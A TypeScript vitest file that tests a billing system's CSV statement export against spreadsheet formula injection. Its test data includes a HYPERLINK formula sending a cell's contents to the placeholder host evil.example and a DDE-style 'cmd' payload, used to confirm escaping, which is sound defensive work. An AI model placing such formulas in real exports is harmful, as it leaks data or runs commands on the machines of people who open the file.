import { describe, expect, it } from "vitest";
import { systemContext } from "@/server/context";
import { adjustBalance } from "@/server/billing/adjust-balance";
import { streamStatementCsv } from "@/server/billing/list-statement";
import { csvCell } from "@/lib/csv";
import { createReseller, createStaff, createTier, fundReseller } from "../../support/factories";

async function statementCsv(memo: string): Promise<string[]> {
  const reseller = await createReseller();
  const tier = await createTier("csv", {});
  await fundReseller(reseller.id, tier.id, 1_000);
  await adjustBalance(systemContext(), { resellerId: reseller.id, direction: "debit", amount: 250, reason: memo });
  const { ctx } = await createStaff(reseller.id, "owner");
  const out: string[] = [];
  for await (const line of streamStatementCsv(ctx, reseller.id, {})) out.push(line);
  return out;
}

describe("security finding 10: statement CSV formula injection", () => {
  it("neutralises a memo a spreadsheet would run as a formula, and keeps a negative amount a number", async () => {
    const memo = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")';
    const [, row] = await statementCsv(memo);
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Refund"")"`);
    expect(row.split(",")).toContain("-2.50");
  });

  it.each(["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"])(
    "prefixes %j with a quote in every export",
    (value) => {
      expect(csvCell(value).replace(/^"/, "").startsWith("'")).toBe(true);
    },
  );

  it("leaves ordinary text and plain numbers as they are", () => {
    expect(csvCell("Top-up")).toBe("Top-up");
    expect(csvCell("-12.50")).toBe("-12.50");
    expect(csvCell("a,b")).toBe('"a,b"');
  });
});
